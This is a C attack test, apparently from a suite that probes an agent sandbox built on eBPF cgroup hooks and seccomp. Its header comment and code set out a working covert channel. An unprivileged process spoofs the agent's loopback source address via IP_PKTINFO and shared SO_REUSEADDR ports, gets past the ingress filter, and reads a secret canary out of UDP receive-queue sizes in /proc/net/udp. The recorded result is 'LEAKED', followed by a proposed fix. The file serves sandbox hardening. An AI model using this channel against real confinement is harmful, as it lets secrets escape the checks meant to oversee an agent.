// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_recvq_self_source - udp_recvq_diag (rx_queue of the agent's UDP sockets in /proc/net/udp)
 * with the outsider's datagrams sent FROM THE AGENT'S OWN ADDRESS, so that cgroup_skb/ingress
 * (sock_egress.bpf.c, mnc_ingress) takes them for traffic between processes of the same agent.
 *
 * The ingress hook identifies the sender of a loopback packet by looking up the socket a reply
 * would reach (bpf_sk_lookup_udp on the reversed tuple: the packet's SOURCE address and port). It
 * does not check that the packet came from that socket. After its recv the agent makes RQ_SOCKS
 * UDP sockets, sets SO_REUSEADDR on each (allowed while tainted: mnc_sockopt_switch) and has
 * each autobound by a refused sendto (0.0.0.0:P, the port the kernel's choice; bind itself is
 * refused by seccomp). An unprivileged outsider (uid 65534) finds them in /proc/net/udp (the
 * agent's uid, new since the "pre" sync) and, for each port P, binds its own SO_REUSEADDR socket
 * to 127.0.0.2:P (two SO_REUSEADDR UDP sockets may share a port, whatever their uids) and sends
 * with IP_PKTINFO ipi_spec_dst = 127.0.0.1 (any local address; no privilege needed) to
 * 127.0.0.1:P. The datagram goes from 127.0.0.1:P to 127.0.0.1:P: the lookup of its source
 * finds the agent's own socket (the outsider's is bound to 127.0.0.2), "between processes of
 * the same agent: no boundary crossed", pass; it is delivered to the agent's socket.
 * RQ_N + 1 datagrams carrying the socket's index j each; the agent reads the first (j) and then
 * as many more as nibble j of the canary says; uid 65534 reads every socket's rx_queue and
 * divides by the size one such datagram takes (measured on a socket of its own). Verifier: the
 * nibbles reassembled, compared with the canary.
 *
 * Result: host (cgroup backend, 6.18): LEAKED in user and root mode; positive control verified.
 * Bandwidth: 4 bits per socket as written (~8 bits: log2 of the datagrams one receive buffer
 * holds), up to the fd limit per round; the agent can make and autobind new sockets and the
 * outsider refill them at will, so unbounded over time (one round trip per ~100 bits).
 * Fix idea: a packet's SOURCE address proves nothing on loopback (IP_PKTINFO picks any local
 * address; SO_REUSEADDR shares the port). Take "same agent" only from the sending socket
 * itself: e.g. cgroup_skb/egress marks the agent's own packets (skb->mark, which an outsider
 * cannot set without CAP_NET_ADMIN) and ingress checks the mark; refusing SO_REUSEADDR to a
 * tainted agent alone is not enough (set before the taint, it stays).
 * Status: open ([open]). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"

#define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
#define RQ_N 16

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "pre");
    int s[RQ_SOCKS];
    struct sockaddr_in nine = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int bound = 0, one = 1;
    for (int i = 0; i < RQ_SOCKS; i++) {
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long o = s[i] < 0 ? -1 : setsockopt(s[i], SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, 0, (struct sockaddr *)&nine, sizeof(nine));
        struct sockaddr_in me;
        socklen_t ml = sizeof(me);
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, "SO_REUSEADDR (tainted: allowed)", o);
            atk_try(c, "sendto 127.0.0.1:9 (autobinds even if refused)", r);
        }
        bound += s[i] >= 0 && getsockname(s[i], (struct sockaddr *)&me, &ml) == 0 && me.sin_port != 0;
    }
    atk_note(c, "%d sockets have a port", bound);
    atk_sync(c, "bound"); /* the outsider queues RQ_N + 1 datagrams on each, from 127.0.0.1:P */
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < RQ_SOCKS; i++) {
        unsigned char j;
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= RQ_SOCKS || (size_t)j / 2 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 2];
        unsigned nib = j % 2 ? v & 15 : v >> 4;
        for (unsigned k = 0; k < nib; k++)
            if (recv(s[i], &j, 1, MSG_DONTWAIT) != 1)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, RQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

/* UDP sockets in /proc/net/udp: (inode, uid, local address, local port, rx_queue) */
struct rq_sock {
    unsigned long ino;
    unsigned uid, addr, port, rx;
};
static int list_udp(struct rq_sock *out, int cap)
{
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return -1;
    char line[512];
    int n = 0;
    if (!fgets(line, sizeof(line), f)) { /* the header */
        fclose(f);
        return -1;
    }
    while (n < cap && fgets(line, sizeof(line), f)) {
        unsigned addr, port, tx, rx, uid;
        unsigned long ino;
        if (sscanf(line, " %*d: %x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", &addr, &port, &tx, &rx, &uid, &ino) ==
            6)
            out[n++] = (struct rq_sock){ino, uid, addr, port, rx};
    }
    fclose(f);
    return n;
}

static struct rq_sock before[4096];
static int nbefore;
static unsigned ports[RQ_SOCKS];
static int nports;

static int was_there(unsigned long ino)
{
    for (int i = 0; i < nbefore; i++)
        if (before[i].ino == ino)
            return 1;
    return 0;
}

/* one datagram from 127.0.0.1:port (IP_PKTINFO source) on a socket bound to 127.0.0.2:port */
static int send_from(int s, unsigned port, unsigned char j)
{
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct iovec iov = {&j, 1};
    union {
        char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
        struct cmsghdr align;
    } u;
    memset(&u, 0, sizeof(u));
    struct msghdr m = {.msg_name = &to,
                       .msg_namelen = sizeof(to),
                       .msg_iov = &iov,
                       .msg_iovlen = 1,
                       .msg_control = u.buf,
                       .msg_controllen = sizeof(u.buf)};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
    cm->cmsg_level = IPPROTO_IP;
    cm->cmsg_type = IP_PKTINFO;
    cm->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
    struct in_pktinfo pi = {.ipi_spec_dst.s_addr = htonl(INADDR_LOOPBACK)};
    memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
    return sendmsg(s, &m, 0) == 1 ? 0 : -1;
}

/* uid 65534: queue RQ_N + 1 datagrams carrying j on each new socket of the agent, each from the
 * agent's own address and port; the ports in order of j go to out ("p,p,...;err") */
static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
{
    static struct rq_sock now[4096];
    int k = list_udp(now, 4096), np = 0, err = 0;
    size_t o = 0;
    out[0] = 0;
    for (int i = 0; i < k && np < RQ_SOCKS; i++) {
        if (now[i].uid != (unsigned)c->agent_uid || was_there(now[i].ino) ||
            (now[i].addr != 0 && now[i].addr != htonl(INADDR_LOOPBACK)))
            continue;
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
        if (s >= 0)
            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        struct sockaddr_in me = {.sin_family = AF_INET,
                                 .sin_port = htons((uint16_t)now[i].port),
                                 .sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1)};
        if (s < 0 || bind(s, (struct sockaddr *)&me, sizeof(me)) != 0) {
            err = errno;
            if (s >= 0)
                close(s);
            continue;
        }
        unsigned char j = (unsigned char)np;
        for (int d = 0; d <= RQ_N; d++)
            if (send_from(s, now[i].port, j) != 0) {
                err = errno;
                break;
            }
        close(s);
        o += (size_t)snprintf(out + o, n - o, "%u,", now[i].port);
        np++;
        if (o >= n)
            break;
    }
    if (o < n)
        snprintf(out + o, n - o, ";%s", atk_errname(err));
    return 0;
}

/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket */
static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t cap)
{
    (void)c;
    char msg[RQ_SOCKS / 2 + 1] = {0};
    int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), w = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (r < 0 || w < 0 || bind(r, (struct sockaddr *)&a, sizeof(a)) != 0 ||
        getsockname(r, (struct sockaddr *)&a, &al) != 0 || sendto(w, "j", 1, 0, (struct sockaddr *)&a, al) != 1)
        return 0;
    usleep(20000);
    static struct rq_sock now[4096];
    int n = list_udp(now, 4096);
    unsigned unit = 0;
    for (int i = 0; i < n; i++)
        if (now[i].port == ntohs(a.sin_port))
            unit = now[i].rx;
    if (!unit)
        return 0;
    for (int j = 0; j < nports && (size_t)j / 2 + 1 < sizeof(msg); j++)
        for (int i = 0; i < n; i++)
            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= RQ_N) {
                unsigned nib = RQ_N - now[i].rx / unit;
                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
            }
    snprintf(out, cap, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        nbefore = list_udp(before, 4096);
        nports = 0;
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        char out[1024];
        if (atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out)) < 0)
            return;
        char *p = out;
        while (nports < RQ_SOCKS && *p && *p != ';') {
            ports[nports++] = (unsigned)strtoul(p, &p, 10);
            if (*p == ',')
                p++;
        }
        fprintf(stderr, "udp_recvq_self_source: uid 65534 filled %d sockets (%s)\n", nports, out);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[RQ_SOCKS / 2 + 2] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads_queues, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c,
                     "uid 65534 queued datagrams on the agent's UDP sockets from the agent's own address (IP_PKTINFO "
                     "source 127.0.0.1:P to 127.0.0.1:P, passed by cgroup_skb/ingress as same-agent traffic) and read "
                     "the canary from their rx_queue in /proc/net/udp (how many the agent read)");
}

static const struct atk A = {"udp_recvq_self_source",
                             "udp_recvq_diag with the outsider's datagrams spoofing the agent's own source address",
                             ATK_OPEN,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
